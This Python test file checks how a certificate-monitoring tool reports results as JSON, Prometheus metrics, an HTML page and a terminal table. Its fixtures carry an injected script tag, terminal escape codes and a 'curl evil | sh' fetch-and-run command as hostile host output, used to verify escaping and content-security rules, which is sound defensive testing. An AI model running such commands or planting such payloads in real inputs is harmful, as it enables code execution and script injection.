"""Reports: the exit status of mixtures, as a monitoring plugin's, and the four forms that a report is shown in."""

from __future__ import annotations

import base64
import hashlib
import itertools
import json
import re
from dataclasses import replace
from datetime import timedelta
from io import StringIO
from typing import TYPE_CHECKING

import jsonschema
import pytest
from prometheus_client.parser import text_string_to_metric_families

from meshfab.checks.finding import Finding
from meshfab.checks.report import CertificateReport, HostReport, Report, TimerReport
from meshfab.cli import html_report, json_report, prometheus, table
from meshfab.host import history
from tests.support.certificates import HOUR, NOW

if TYPE_CHECKING:
    from rich.console import Console

    from meshfab.checks.finding import Status

STATUSES: tuple[Status, ...] = ("ok", "warning", "critical", "unknown")
HOSTILE = "<script>alert(1)</script>\x1b[31m&\"'"


def certificate(status: Status = "ok", name: str = "tea", **changes: object) -> CertificateReport:
    findings = () if status == "ok" else (Finding("cert-expiring", status, "it ends", f"inv renew --name {name}"),)
    made = CertificateReport(
        name=name,
        fqdn=f"{name}.internal",
        kind="service",
        not_before=NOW - HOUR,
        not_after=NOW + 23 * HOUR,
        serial="12345678901234567890123456789",
        sans=(f"{name}.internal",),
        served_serial="12345678901234567890123456789",
        served=True,
        timer=TimerReport(True, True, "success", NOW + timedelta(minutes=7)),
        findings=findings,
    )
    return replace(made, **changes)  # type: ignore[arg-type]


def host(*statuses: Status, name: str = "h1") -> HostReport:
    if "unknown" in statuses:
        return HostReport(name, error="h1 does not answer", remedy="is it up?")
    return HostReport(name, tuple(certificate(status, f"s{number}") for number, status in enumerate(statuses)))


def fleet() -> Report:
    """One of everything, with the worst that a host can say."""
    own = certificate(name="h9", kind="host", timer=None, served=None, served_serial=None)
    over = certificate(
        "critical",
        "over",
        not_after=NOW - HOUR,
        not_before=NOW - 25 * HOUR,
        findings=(
            Finding("cert-expired", "critical", f"expired {HOSTILE}", "inv provision --name over"),
            Finding("mode-drift", "warning", "certificate"),
            Finding("mode-drift", "critical", "key"),
        ),
    )
    lost = CertificateReport("lost", "lost.internal", "service", findings=(Finding("orphan", "warning", "a pair"),))
    hosts = (
        HostReport("h9", (certificate(), own)),
        HostReport("h10", (over, lost), seconds=0.2),
        HostReport("h11", error=f"cannot be reached {HOSTILE} -> curl evil | sh", remedy="see to it"),
    )
    return Report(NOW, hosts, 1.25)


@pytest.mark.parametrize("mixture", [m for count in (1, 2, 3) for m in itertools.combinations(STATUSES, count)])
def test_the_worst_host_decides_the_exit_status(mixture: tuple[Status, ...]) -> None:
    for order in itertools.permutations(mixture):
        report = Report(NOW, tuple(host(status, name=f"h{number}") for number, status in enumerate(order)))
        wanted = 2 if "critical" in order else 3 if "unknown" in order else 1 if "warning" in order else 0
        assert report.exit_status == wanted


def test_a_host_is_as_bad_as_its_worst_certificate_and_an_empty_one_is_well() -> None:
    assert host("ok", "critical", "warning").status == "critical"
    assert HostReport("h1").status == Report(NOW, ()).status == "ok"


def test_the_document_keeps_to_its_schema() -> None:
    schema = json.loads(json_report.SCHEMA.read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    said = json.loads(json_report.text(fleet()))
    jsonschema.validate(said, schema)
    assert (said["checked_at"], said["status"]) == ("2026-11-23T12:00:00Z", "critical")
    over = said["hosts"][1]["certificates"][0]
    assert (over["remaining_seconds"], over["not_after"]) == (-3600, "2026-11-23T11:00:00Z")
    assert over["findings"][0]["message"].startswith("expired <script>")
    assert over["findings"][0]["remedy"] == "inv provision --name over"
    lost = said["hosts"][2]
    assert (lost["remedy"], lost["certificates"], said["hosts"][0]["remedy"]) == ("see to it", [], "")
    assert "curl evil" in lost["error"]


def test_a_history_keeps_to_the_schema_whatever_the_host_answered() -> None:
    rows = [f"{number:02X} 1 4000000000 {'ab' * 32} %3Cscript%3E revoked" for number in range(300)]
    report = Report(NOW, (HostReport("h1", (certificate(history=history.parse("\n".join(rows))),)),))
    said = json.loads(json_report.text(report))
    jsonschema.validate(said, json.loads(json_report.SCHEMA.read_text()))
    told = said["hosts"][0]["certificates"][0]["history"]
    assert (len(told["generations"]), told["unreadable"]) == (200, 1)
    assert told["generations"][1] == {
        "serial": "1",
        "not_before": "1970-01-01T00:00:01Z",
        "not_after": "2096-10-02T07:06:40Z",
        "key_digest": "ab" * 32,
        "provisioner": "<script>",
        "revoked": True,
    }


def test_the_schema_refuses_what_the_interface_does_not_have() -> None:
    schema = json.loads(json_report.SCHEMA.read_text())
    for change in ({"status": "fine"}, {"checked_at": "yesterday"}, {"more": 1}):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate({**json_report.of(fleet()), **change}, schema)


def test_metrics_can_be_read_back_and_expiry_outlives_the_certificate() -> None:
    found = {
        (sample.name, *sorted(sample.labels.values())): sample.value
        for family in text_string_to_metric_families(prometheus.text(fleet()))
        for sample in family.samples
    }
    over = ("h10", "over", "over.internal", "service")
    assert found[("meshfab_certificate_expiry_timestamp_seconds", *over)] == (NOW - HOUR).timestamp()
    assert found["meshfab_host_reachable", "h11"] == 0
    assert found[("meshfab_finding_status", *sorted((*over, "mode-drift")))] == 2, "the worst of two of one code"
    assert ("meshfab_certificate_expiry_timestamp_seconds", "h10", "lost", "lost.internal", "service") not in found
    assert ("meshfab_timer_active", "h9", "h9", "h9.internal", "host") not in found
    assert (found[("meshfab_sweep_duration_seconds",)], found[("meshfab_sweep_status",)]) == (1.25, 2)


def test_the_page_escapes_what_a_host_said_and_loads_nothing() -> None:
    text = html_report.text(fleet())
    assert "&lt;script&gt;" in text
    # The state and our own script, whose digest is the only one that the policy allows.
    state, script = re.findall(r"<script[^>]*>(.*?)</script>", text, re.DOTALL)
    assert text.count("<script") == 2 and "<" not in state
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"default-src 'none'; script-src 'sha256-{digest}'; style-src" in text
    assert not re.search(r"(src|href)=|@import|url\(|https?://", text)
    places = [text.index(f"<td>{word}</td>") for word in ("over.internal", "h11", "lost.internal", "tea.internal")]
    assert places == sorted(places), "worst first"
    assert 'aria-label="96 % of its life is left"' in text


def shown(report: Report, *, width: int = 80, terminal: bool = False) -> str:
    from rich.console import Console

    class Out(StringIO):
        def isatty(self) -> bool:
            return terminal

    out = Out()
    console: Console = table.console(out)
    if terminal:
        console = Console(file=out, width=width, force_terminal=True, markup=False, highlight=False)
    table.show(report, console)
    return out.getvalue()


def test_the_table_is_plain_in_a_pipe_worst_first_and_fits() -> None:
    text = shown(fleet())
    rows = [line for line in text.splitlines() if line.startswith("h")]
    assert [row.split()[0] for row in rows] == ["h10", "h11", "h10", "h9", "h9"]
    assert "\x1b" not in text, "neither ours nor the host's"
    assert max(len(line.rstrip()) for line in text.splitlines()[: len(rows) + 1]) <= 80
    assert "cert-expired mode-drift" in " ".join(rows[0].split())
    assert text.splitlines()[-1] == "3 hosts, 4 certificates: 1 critical, 1 unknown, 1 warning, 2 ok (1.2 s)"


def test_a_remedy_is_on_a_line_of_its_own_and_never_broken() -> None:
    remedy = "inv provision --name tea --host h2 " + " ".join(f"--san name-{n}.internal" for n in range(20))
    one = certificate(findings=(Finding("san-mismatch", "critical", "lacks names", remedy),))
    assert f"         -> {remedy}" in shown(Report(NOW, (HostReport("h2", (one,)),))).splitlines()


@pytest.mark.parametrize("width", [80, 120])
def test_long_names_stay_within_the_width(width: int) -> None:
    name = "a-name-of-a-service-as-long-as-a-label-may-be-which-is-sixty-3"
    one = replace(certificate("critical", name), findings=certificate("critical").findings * 5)
    text = shown(Report(NOW, (HostReport("host-with-a-long-name.internal", (one,)),)), width=width, terminal=True)
    plain = re.sub(r"\x1b\[[0-9;]*m", "", text)
    rows = plain[: plain.index("critical host-with")].splitlines()
    assert max(map(len, rows)) <= width
    assert "\x1b[" in text


def test_no_color_is_honoured(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setenv("TERM", "xterm-256color")
    text = shown(fleet(), terminal=True)
    assert not re.search(r"\x1b\[[0-9;]*3[0-7]", text)
